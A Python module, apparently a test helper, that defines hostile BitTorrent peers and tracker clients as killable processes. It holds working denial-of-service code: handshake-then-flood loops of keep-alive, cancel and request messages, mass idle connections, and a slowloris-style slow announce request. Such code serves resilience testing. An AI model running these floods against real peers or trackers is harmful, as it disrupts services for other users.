"""Hostile peers and clients of trackers, on raw sockets: each a process of its own, until it is killed."""

import contextlib
import itertools
import multiprocessing
import os
import resource
import socket
import struct
import time

from torrents import Torrent

BLOCK = 16384
HAVE_NONE, INTERESTED = b"\0\0\0\1\x0f", b"\0\0\0\1\2"
_ids = itertools.count()


def hello(torrent):
    """A handshake with the Fast extension, of a peer that nobody has met."""
    peer_id = b"-XX0000-%06d%06d" % (os.getpid() % 1_000_000, next(_ids))
    return b"\x13BitTorrent protocol" + bytes(7) + b"\4" + bytes.fromhex(torrent.v1) + peer_id


def block_message(kind, piece, block):
    return struct.pack(">IBIII", 13, kind, piece, block * BLOCK, BLOCK)


def connection(own, to):
    link = socket.socket()
    link.bind((own, 0))
    link.connect(to)
    return link


def more_descriptors():
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))


def flood(torrent_path, own, to, first, again):
    """Says `first` once a link, then `again` as fast as it is read; comes back when it is thrown out."""
    torrent = Torrent(torrent_path)
    batch = again * max(1, 65536 // len(again))
    while True:
        with contextlib.suppress(OSError), connection(own, to) as link:
            link.sendall(hello(torrent) + HAVE_NONE + first)
            link.settimeout(5)  # who reads nothing of it at all has shut it out
            while True:
                link.sendall(batch)
        time.sleep(0.05)


def keep_alives(torrent_path, own, to):
    flood(torrent_path, own, to, b"", bytes(4))


def cancels(torrent_path, own, to):
    requests = b"".join(block_message(6, number // 16 % 64, number % 16) for number in range(4000))
    flood(torrent_path, own, to, INTERESTED + requests, block_message(8, 1, 3))


def requests(torrent_path, own, to):
    """Of everything, and reads nothing."""
    everything = b"".join(block_message(6, number // 16 % 64, number % 16) for number in range(1024))
    flood(torrent_path, own, to, INTERESTED, everything)


def hold(own, to, words, ready):
    """A link for each of `words`, which it says; then it lets all of them be."""
    more_descriptors()
    links = []
    for each in words:
        with contextlib.suppress(OSError):
            links.append(connection(own, to))
            links[-1].sendall(each)
    ready.set()
    time.sleep(3600)


def slow_requests(own, to, count, ready):
    """A byte of a header a second on each of so many connections; whoever is closed calls again."""
    more_descriptors()
    links = [None] * count
    while True:
        for number, link in enumerate(links):
            try:
                if link is None:
                    link = links[number] = connection(own, to)
                    link.setblocking(False)
                    link.send(b"GET /announce?")
                link.send(b"x")
                with contextlib.suppress(BlockingIOError):
                    if not link.recv(64):
                        raise ConnectionResetError
            except OSError:
                if link is not None:
                    link.close()
                links[number] = None
        ready.set()
        time.sleep(1)


@contextlib.contextmanager
def attack(*jobs):
    """While it lasts each job, a function with its arguments, runs in a process."""
    processes = [multiprocessing.Process(target=job[0], args=job[1:], daemon=True) for job in jobs]
    for process in processes:
        process.start()
    try:
        yield
    finally:
        for process in processes:
            process.kill()
        for process in processes:
            process.join()
